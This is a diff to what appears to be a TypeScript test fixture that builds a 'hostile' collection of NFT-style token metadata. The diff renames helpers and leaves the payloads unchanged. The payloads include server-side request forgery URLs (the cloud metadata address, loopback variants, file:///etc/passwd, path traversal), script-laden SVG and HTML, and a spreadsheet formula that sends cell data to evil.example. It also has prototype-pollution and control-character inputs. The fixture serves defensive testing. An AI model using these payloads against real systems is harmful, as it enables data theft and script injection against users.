@@ -16,43 +16,43 @@ export interface HostileToken {
 
 const json = (document: unknown): string => `data:application/json;base64,${Buffer.from(JSON.stringify(document)).toString("base64")}`;
 const plain = (text: string): string => `data:application/json,${encodeURIComponent(text)}`;
-const hostile = (kind: string, uri: string, response: HostileToken["response"] = "uri", length = 0): HostileToken => ({
+const createToken = (kind: string, uri: string, response: HostileToken["response"] = "uri", length = 0): HostileToken => ({
   kind,
   response,
   uri,
   length,
 });
-const gateway = (kind: string, path = kind): HostileToken => hostile(kind, `ipfs://${hostileFolder}/${path}`);
+const onGateway = (kind: string, path = kind): HostileToken => createToken(kind, `ipfs://${hostileFolder}/${path}`);
 
 const scriptedPicture =
   '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>';
 const page = "<!doctype html><html><body><script>alert(document.domain)</script></body></html>";
 
 const attacks: readonly HostileToken[] = [
-  gateway("huge"),
-  gateway("slow"),
-  gateway("redirect-to-loopback"),
-  gateway("redirect-to-link-local"),
-  gateway("redirect-loop"),
-  gateway("compressed-bomb"),
-  gateway("deeply-nested"),
-  gateway("many-attributes"),
-  gateway("page"),
-  gateway("broken"),
-  gateway("missing", "nowhere"),
-  gateway("path-out-of-the-folder", "../../private"),
-  hostile("link-local", "http://169.254.169.254/latest/meta-data/"),
-  hostile("loopback", "https://127.0.0.1/private.json"),
-  hostile("loopback-by-name", "https://localhost/private.json"),
-  hostile("loopback-as-number", "http://2130706433/private.json"),
-  hostile("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
-  hostile("file", "file:///etc/passwd"),
-  hostile(
+  onGateway("huge"),
+  onGateway("slow"),
+  onGateway("redirect-to-loopback"),
+  onGateway("redirect-to-link-local"),
+  onGateway("redirect-loop"),
+  onGateway("compressed-bomb"),
+  onGateway("deeply-nested"),
+  onGateway("many-attributes"),
+  onGateway("page"),
+  onGateway("broken"),
+  onGateway("missing", "nowhere"),
+  onGateway("path-out-of-the-folder", "../../private"),
+  createToken("link-local", "http://169.254.169.254/latest/meta-data/"),
+  createToken("loopback", "https://127.0.0.1/private.json"),
+  createToken("loopback-by-name", "https://localhost/private.json"),
+  createToken("loopback-as-number", "http://2130706433/private.json"),
+  createToken("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
+  createToken("file", "file:///etc/passwd"),
+  createToken(
     "script-in-picture",
     json({ name: "Scripted", image: `data:image/svg+xml;base64,${Buffer.from(scriptedPicture).toString("base64")}` }),
   ),
-  hostile("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
-  hostile(
+  createToken("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
+  createToken(
     "javascript-links",
     json({
       name: "Linked",
@@ -61,8 +61,8 @@ const attacks: readonly HostileToken[] = [
       external_url: "data:text/html,<script>alert(3)</script>",
     }),
   ),
-  hostile("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
-  hostile(
+  createToken("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
+  createToken(
     "formula",
     json({
       name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -73,7 +73,7 @@ const attacks: readonly HostileToken[] = [
       ],
     }),
   ),
-  hostile(
+  createToken(
     "control-characters",
     json({
       name: "\u202egnp.tnecnni\u202c \u2066\u200b\u001b[31mred\u0007\u0000 end",
@@ -81,32 +81,35 @@ const attacks: readonly HostileToken[] = [
       attributes: [{ trait_type: "\u202eedis", value: "\u0000" }],
     }),
   ),
-  hostile("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
-  hostile(
+  createToken("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
+  createToken(
     "absurd-attributes",
     plain(
       '{"name":"Absurd","attributes":[{"trait_type":"__proto__","value":"constructor"},{"trait_type":"Number","value":1e400},{"trait_type":"Number","value":123456789012345678901234567890},' +
         '{"trait_type":"Date","display_type":"date","value":9e15},{"trait_type":"","value":""},{"trait_type":{"a":1},"value":[[]]},null,[],{"__proto__":{"polluted":true}}],"__proto__":{"polluted":true}}',
     ),
   ),
-  hostile("names-of-other-types", plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}')),
-  hostile("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
-  hostile("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
-  hostile("cut-off", 'data:application/json,{"name":"Cut off'),
-  hostile("no-object", 'data:application/json,"just a text"'),
-  hostile("empty", ""),
-  hostile("long", "https://long.example/", "long", 100_000),
-  hostile("reverting", "", "revert"),
-  hostile("endless", "", "endless"),
-  hostile("no-text", "", "noText"),
+  createToken(
+    "names-of-other-types",
+    plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}'),
+  ),
+  createToken("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
+  createToken("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
+  createToken("cut-off", 'data:application/json,{"name":"Cut off'),
+  createToken("no-object", 'data:application/json,"just a text"'),
+  createToken("empty", ""),
+  createToken("long", "https://long.example/", "long", 100_000),
+  createToken("reverting", "", "revert"),
+  createToken("endless", "", "endless"),
+  createToken("no-text", "", "noText"),
 ];
 
 const attacksPerHarmless = 3;
 
 const harmless = (number: number): HostileToken =>
-  hostile("harmless", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));
+  createToken("harmless", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));
 
-/** The tokens of the hostile collection in the order of their ids, which start at 1, with harmless tokens before, between and after the hostile ones. */
+/** The tokens of the hostile collection by id, from 1, with harmless tokens before, between and after the hostile ones. */
 export const hostileTokens: readonly HostileToken[] = attacks.flatMap((token, index) => {
   const number = Math.floor(index / attacksPerHarmless) + 1;
   const before = index % attacksPerHarmless === 0 ? [harmless(number)] : [];
